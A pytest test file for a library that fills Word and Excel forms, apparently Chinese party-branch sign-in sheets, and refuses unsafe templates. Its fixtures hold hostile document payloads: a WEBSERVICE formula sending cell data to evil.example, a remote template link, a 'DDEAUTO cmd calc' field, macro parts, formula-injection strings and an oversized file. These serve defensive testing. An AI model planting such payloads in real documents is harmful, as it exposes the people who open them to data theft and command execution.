"""Other people's forms: filled with their format kept, and refused with a sentence where they would act or cannot be filled."""

import zipfile
from io import BytesIO

import openpyxl
import pytest
from docx import Document
from docx.shared import Pt
from openpyxl.chart import BarChart, Reference
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.worksheet.datavalidation import DataValidation

from dangjian.filling import Found, List, Unfillable, Values, Vocabulary, examine, fill, kind_of, opened

pytestmark = pytest.mark.once
WORDS = Vocabulary(
    names=("支部名称", "主题", "应到", "内容", "导出标记"),
    lists={"到会": List(("序号", "姓名", "情况")), "谈话": List(("日期",))},
    required="导出标记",
)
HOSTILE = "=HYPERLINK(1)<w:p/>&{{内容}}\x00]]>"
PEOPLE = [{"序号": 1, "姓名": "胡明远", "情况": "到会"}, {"序号": 2, "姓名": "{{主题}}", "情况": "病假"}]
VALUES = Values(
    {"支部名称": "锦绣社区第一党支部", "主题": HOSTILE, "应到": 12, "内容": "一\n二", "导出标记": "编号7"},
    {"到会": PEOPLE},
)


def saved(made) -> bytes:
    body = BytesIO()
    made.save(body)
    return body.getvalue()


def with_parts(content: bytes, parts: dict[str, bytes]) -> bytes:
    """With parts added or replaced."""
    body = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(body, "w") as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, said in parts.items():
            new.writestr(name, said)
    return body.getvalue()


def form() -> Document:
    """With a placeholder that Word has cut into three runs, two of them bold, and a table with a merged head."""
    made = Document()
    paragraph = made.add_paragraph("支部：")
    for part, bold in (("{{支", True), ("部名", True), ("称}}（应到{{ 应到 }}人）", False)):
        run = paragraph.add_run(part)
        run.bold, run.font.name, run.font.size = bold, "仿宋_GB2312", Pt(16)
    made.add_paragraph("主题：｛｛主题｝｝").alignment = 1
    made.add_paragraph("{{内容}}")
    table = made.add_table(rows=3, cols=3, style="Table Grid")
    table.cell(0, 0).merge(table.cell(0, 2)).text = "到会情况"
    for cell, name in zip(table.rows[1].cells, ("序号", "姓名", "情况"), strict=True):
        cell.text = f"{{{{到会．{name}}}}}"
    table.cell(1, 1).paragraphs[0].runs[0].italic = True
    table.cell(2, 0).text = "合计{{应到}}"
    made.sections[0].footer.paragraphs[0].text = "{{导出标记}}"
    return made


def test_a_document_is_filled_and_keeps_its_format():
    read = Document(BytesIO(fill(saved(form()), VALUES)))
    first, second, third = read.paragraphs[:3]
    assert [one.text for one in (first, second, third)] == [
        "支部：锦绣社区第一党支部（应到12人）",
        "主题：=HYPERLINK(1)<w:p/>&{{内容}}]]>",
        "一\n二",
    ]
    assert [(one.text, one.bold, one.font.name) for one in first.runs[1:]] == [
        ("锦绣社区第一党支部", True, "仿宋_GB2312"),
        ("", True, "仿宋_GB2312"),
        ("（应到12人）", False, "仿宋_GB2312"),
    ]
    assert second.alignment == 1
    rows = read.tables[0].rows
    assert [[cell.text for cell in row.cells] for row in rows] == [
        ["到会情况"] * 3,
        ["1", "胡明远", "到会"],
        ["2", "{{主题}}", "病假"],
        ["合计12", "", ""],
    ]
    assert [rows[at].cells[1].paragraphs[0].runs[0].italic for at in (1, 2)] == [True, True]
    assert (read.tables[0].style.name, read.sections[0].footer.paragraphs[0].text) == ("Table Grid", "编号7")


def test_without_rows_a_table_keeps_one_empty_line():
    read = Document(BytesIO(fill(saved(form()), Values(VALUES.single))))
    assert [[cell.text for cell in row.cells] for row in read.tables[0].rows[1:]] == [["", "", ""], ["合计12", "", ""]]


def book():
    """A form with merged heads, a list in its middle, a merged foot, a choice and a print area below it."""
    made = openpyxl.Workbook()
    sheet = made.active
    sheet.title = "签到表"
    thin = Side(style="thin")
    sheet["A1"] = "{{支部名称}}签到表"
    sheet.merge_cells("A1:D1")
    sheet["A1"].font, sheet["A1"].alignment = Font(name="方正小标宋简体", size=22), Alignment(horizontal="center")
    sheet["A2"], sheet["C2"] = "{{主题}}", "{{应到}}"
    for place, name in (("A3", "序号"), ("B3", "姓名"), ("D3", "情况")):
        sheet[place] = f"{{{{到会.{name}}}}}"
        sheet[place].fill, sheet[place].border = PatternFill("solid", "FFEEDD"), Border(bottom=thin)
    sheet.merge_cells("B3:C3")
    sheet.row_dimensions[3].height = 30
    sheet["A4"] = "{{内容}}"
    sheet.merge_cells("A4:D5")
    choice = DataValidation(type="list", formula1='"是,否"')
    choice.add("D6")
    sheet.add_data_validation(choice)
    sheet.print_area = "A1:D6"
    sheet.oddFooter.center.text = "{{导出标记}}"
    return made


def test_a_workbook_is_filled_and_what_lies_below_a_list_moves_down():
    read = openpyxl.load_workbook(BytesIO(fill(saved(book()), VALUES)))
    sheet = read.active
    assert [[cell.value for cell in row] for row in sheet["A1:D5"]] == [
        ["锦绣社区第一党支部签到表", None, None, None],
        ["=HYPERLINK(1)<w:p/>&{{内容}}]]>", None, 12, None],
        [1, "胡明远", None, "到会"],
        [2, "{{主题}}", None, "病假"],
        ["一\n二", None, None, None],
    ]
    assert (sheet["A2"].data_type, sheet["A2"].quotePrefix, sheet["C2"].data_type) == ("s", True, "n")
    assert sorted(map(str, sheet.merged_cells.ranges)) == ["A1:D1", "A5:D6", "B3:C3", "B4:C4"]
    assert (sheet["A1"].font.name, sheet["A1"].font.size, sheet["A1"].alignment.horizontal) == (
        "方正小标宋简体",
        22,
        "center",
    )
    assert [sheet[place].fill.start_color.rgb for place in ("A3", "A4", "D4")] == ["00FFEEDD"] * 3
    assert [sheet.row_dimensions[row].height for row in (3, 4, 5)] == [30, 30, None]
    assert [str(one.sqref) for one in sheet.data_validations.dataValidation] == ["D7"]
    assert (sheet.print_area, sheet.oddFooter.center.text) == ("'签到表'!$A$1:$D$7", "编号7")


def test_what_a_file_holds_is_told_with_its_places():
    assert examine(saved(form()), WORDS)[:3] == [
        Found("支部名称", "第1段"),
        Found("应到", "第1段"),
        Found("主题", "第2段"),
    ]
    assert examine(saved(form()), WORDS)[4].where == "第1个表第2行第1格"
    assert [one.where for one in examine(saved(book()), WORDS)] == [
        *(
            "签到表!A1",
            "签到表!A2",
            "签到表!C2",
            "签到表!A3",
            "签到表!B3",
            "签到表!D3",
            "签到表!A4",
            "签到表的页眉页脚",
        ),
    ]
    assert [kind_of(saved(one)) for one in (form(), book())] == ["docx", "xlsx"]


def changed(change, made=form) -> bytes:
    one = made()
    change(one)
    return saved(one)


def part(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(BytesIO(content)) as held:
        return held.read(name)


def related(kind: str, target: str) -> dict[str, bytes]:
    """A relation of the document to one more part."""
    said = f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}"/>'
    return {
        "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships">{said}</Relationships>'.encode()
    }


def with_fields(name: str, *fields: tuple[str, ...]) -> bytes:
    """A document with a part of fields, each in one or more runs."""
    begin, end = (f'<w:fldChar w:fldCharType="{one}"/>' for one in ("begin", "end"))
    said = "".join(begin + "".join(f"<w:instrText>{run}</w:instrText>" for run in runs) + end for runs in fields)
    spaces = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return with_parts(saved(form()), {name: f"<w:hdr {spaces}><w:p><w:r>{said}</w:r></w:p></w:hdr>".encode()})


def with_sheet_at(target: str) -> bytes:
    """A workbook whose second sheet lies elsewhere, and computes with what is filled into the first."""
    made = book()
    made.create_sheet("二")["A1"] = '=WEBSERVICE("http://evil.example/"&签到表!B3)'
    content = saved(made)
    links = part(content, "xl/_rels/workbook.xml.rels").replace(b"/xl/worksheets/sheet2.xml", target.encode())
    sheet = part(content, "xl/worksheets/sheet2.xml")
    return with_parts(
        content,
        {"xl/_rels/workbook.xml.rels": links, target.lstrip("/"): sheet, "xl/worksheets/sheet2.xml": b"<x/>"},
    )


def torn(method: int) -> bytes:
    """A stream that cannot be unpacked."""
    body = BytesIO()
    with zipfile.ZipFile(body, "w", method) as made:
        made.writestr("word/document.xml", bytes(600))
    at = body.getvalue().index(b"word/document.xml") + 17
    at += 4 if method == zipfile.ZIP_LZMA else 0  # its version and the length of what follows
    return body.getvalue()[:at] + b"\xff" * 8 + body.getvalue()[at + 8 :]


def text(said: str):
    return lambda made: made.add_paragraph(said)


def in_cell(place: str, said: str):
    return lambda made: made.active.__setitem__(place, said)


UNFILLABLE = {
    "unknown": (changed(text("{{党龄}}和{{到会.手机}}")), "认不出这些占位符：第4段的“党龄”；第4段的“到会.手机”。"),
    "unknown in a cell": (changed(in_cell("B9", "{{党龄}}"), book), "认不出这些占位符：签到表!B9的“党龄”。"),
    "half": (changed(text("{{主题")), "第4段有没写完整的占位符"),
    "expression": (changed(text("{{ 7*7 }}")), "认不出这些占位符：第4段的“7*7”"),
    "outside a table": (changed(text("{{到会.姓名}}")), "要放在表格的一行里"),
    "mixed": (changed(in_cell("E3", "{{谈话.日期}}"), book), "同一行里只能放一种名单"),
    "formula": (changed(in_cell("F1", "=WEBSERVICE(A1)"), book), "签到表!F1里有公式"),
    "no mark": (changed(lambda made: setattr(made.sections[0].footer.paragraphs[0], "text", "")), "请在页脚或末尾放一处 {{导出标记}}"),
    "none": (saved(Document()), "文件里没有占位符"),
    "old": (b"\xd0\xcf\x11\xe0" + bytes(600), "文件不完整或已损坏"),
    "macro": (with_parts(saved(form()), {"word/vbaProject.bin": b"x"}), "文件里有宏"),
    "object": (with_parts(saved(form()), {"word/embeddings/a.docx": b"x"}), "文件里有宏"),
    "outside": (
        with_parts(
            saved(form()),
            {
                "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                b'relationships"><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
                b'TargetMode="External"/></Relationships>'
            },
        ),
        "链接了别处的文件",
    ),
    "field": (
        changed(lambda made: made.paragraphs[0]._p.append(made.paragraphs[0]._p.makeelement(
            "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}fldSimple",
            {"{http://schemas.openxmlformats.org/wordprocessingml/2006/main}instr": "DDEAUTO cmd calc"},
        ))),
        "链接了别处的文件",
    ),
    "entities": (
        with_parts(saved(form()), {"word/footer9.xml": b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'}),
        "文件不完整或已损坏",
    ),
    "bomb": (with_parts(saved(form()), {"word/media/a.png": bytes(21 * 1024 * 1024)}), "模板超过2 MB"),
    "number": (
        with_parts(saved(Document()), {"xl/workbook.xml": b"<x/>"}),
        "文件里没有占位符",
    ),
}  # fmt: skip


def test_what_cannot_be_filled_is_refused_with_a_sentence():
    for name, (content, sentence) in UNFILLABLE.items():
        with pytest.raises(Unfillable) as refusal:
            examine(content, WORDS)
        assert sentence in str(refusal.value), name


def test_what_acts_is_found_under_any_name():
    for name, content, sentence in (
        ("sheet elsewhere", with_sheet_at("/xl/other/a.xml"), "文件不完整或已损坏"),
        ("sheet as a chart", with_sheet_at("/xl/chartsheets/a.xml"), "xl/chartsheets/a.xml!A1里有公式"),
        ("sheet in the other dialect", with_parts(saved(book()), {
            "xl/worksheets/sheet1.xml": b'<worksheet xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main"><c r="A1"><f/></c>'
            b"</worksheet>"
        }), "签到表!A1里有公式"),
        ("deep header", with_fields("word/x/h.xml", ("INCLUDEPICTURE a",)), "word/x/h.xml"),
        ("header elsewhere", with_fields("custom/h.xml", ("DD", "E a")), "custom/h.xml"),
        ("capitals", with_fields("word/h.XML", ("DDEAUTO a",)), "word/h.XML"),
        ("two fields", with_fields("word/h.xml", ("REF HYPER",), ("LINK a",)), "链接了别处的文件"),
        ("not a field's name", with_fields("word/h.xml", ("XHYPERLINK a",)), "链接了别处的文件"),
        ("header by another ending", with_parts(saved(form()), related("header", "h.dat")), "文件不完整或已损坏"),
        ("capitals of relations", with_parts(
            saved(form()), {"word/_rels/a.xml.RELS": related("oleObject", "a.dat").popitem()[1]}
        ), "链接了别处的文件"),
        *((kind, with_parts(saved(form()), related(kind, "a.dat")), "文件里有宏") for kind in (
            *("vbaProject", "control", "package", "activeXControlBinary", "ctrlProp", "queryTable", "connections"),
            *("xlMacrosheet", "xlIntlMacrosheet", "dialogsheet"),
        )),
    ):  # fmt: skip
        with pytest.raises(Unfillable) as refusal:
            examine(content, WORDS)
        assert sentence in str(refusal.value), name
    made = book()
    chart = BarChart()
    chart.add_data(Reference(made.active, min_col=1, min_row=1, max_row=3))
    made.create_chartsheet().add_chart(chart)
    assert examine(saved(made), WORDS)
    assert examine(with_fields("word/h.xml", ("HYPER", 'LINK "a"'), ("REF a",), ("PAGE",)), WORDS)


def test_a_file_that_turns_out_damaged_is_refused_at_every_step():
    whole = saved(book())
    sheet = part(whole, "xl/worksheets/sheet1.xml")
    broken = sheet.replace(b"</sheetData>", b'</sheetData><rowBreaks><brk id="x"/></rowBreaks>')
    rows = sheet.replace(b'<row r="1"', b'<row r="x"')
    for step, content in (
        *((lambda said: examine(said, WORDS), torn(method)) for method in (zipfile.ZIP_DEFLATED, zipfile.ZIP_LZMA)),
        (kind_of, with_parts(whole, {"xl/worksheets/sheet1.xml": rows})),
        (lambda said: fill(said, VALUES), with_parts(whole, {"xl/worksheets/sheet1.xml": broken})),
    ):
        with pytest.raises(Unfillable, match="文件不完整或已损坏"):
            step(content)


def test_no_more_placeholders_are_placed_than_may_stand():
    made = form()
    for _ in range(3):
        made.add_paragraph("{{主题}}" * 400)
    assert len(opened(saved(made)).found()) == 501
    with pytest.raises(Unfillable, match="占位符超过500个"):
        examine(saved(made), WORDS)


def test_rows_do_not_grow_without_measure():
    made = form()
    made.tables[0].cell(1, 2).add_paragraph("长" * 60_000)
    with pytest.raises(Unfillable, match="名单太长"):
        fill(saved(made), Values(VALUES.single, {"到会": PEOPLE * 500}))


def charted(sheet) -> None:
    """With a chart below the cells, which has to stand behind the heads in the file."""
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=2))
    sheet.add_chart(chart, "A9")


def headed(**heads: str) -> openpyxl.Workbook:
    made = book()
    charted(made.active)
    for place, text in heads.items():
        setattr(made.active.oddHeader, place, openpyxl.worksheet.header_footer._HeaderFooterPart(text))
    return made


@pytest.mark.parametrize(
    ("heads", "wanted"),
    [
        ({}, (None, "仅供核对", None)),
        ({"left": "R&D", "right": "第&P页"}, ("R&&D", "仅供核对", "第&P页")),
        ({"center": "组织部"}, (None, "仅供核对\n组织部", None)),
        ({"left": "长" * 250}, (None, "仅供核对", None)),
    ],
)
def test_a_stamp_stands_on_every_page_of_a_workbook_above_its_own_head(heads, wanted):
    made = headed(**{place: text.replace("R&D", "R&&D") for place, text in heads.items()})
    charted(made.create_sheet("没有页眉"))

    content = fill(saved(made), VALUES, on_top="仅供核对")

    first, second = openpyxl.load_workbook(BytesIO(content)).worksheets
    assert tuple(one.text for one in (first.oddHeader.left, first.oddHeader.center, first.oddHeader.right)) == wanted
    assert second.oddHeader.center.text == "仅供核对"
    assert first.oddFooter.center.text == "编号7"
    for sheet in opened(content).sheets:
        tags = [one.tag.rpartition("}")[2] for one in sheet.tree]
        assert tags.index("headerFooter") < tags.index("drawing")


def test_pages_with_a_head_of_their_own_are_stamped_too():
    made = book()
    made.active.HeaderFooter.differentFirst = made.active.HeaderFooter.differentOddEven = True
    made.active.firstHeader.center.text = "封面"

    sheet = openpyxl.load_workbook(BytesIO(fill(saved(made), VALUES, on_top="仅供核对&\x00"))).active

    heads = sheet.oddHeader, sheet.evenHeader, sheet.firstHeader
    assert [one.center.text for one in heads] == ["仅供核对&&", "仅供核对&&", "仅供核对&&\n封面"]


def test_a_sheet_that_is_only_a_chart_is_stamped_too():
    made = headed()
    made.create_chartsheet("图").add_chart(BarChart())

    content = fill(saved(made), VALUES, on_top="仅供核对")

    assert openpyxl.load_workbook(BytesIO(content)).chartsheets[0].headerFooter.oddHeader.center.text == "仅供核对"
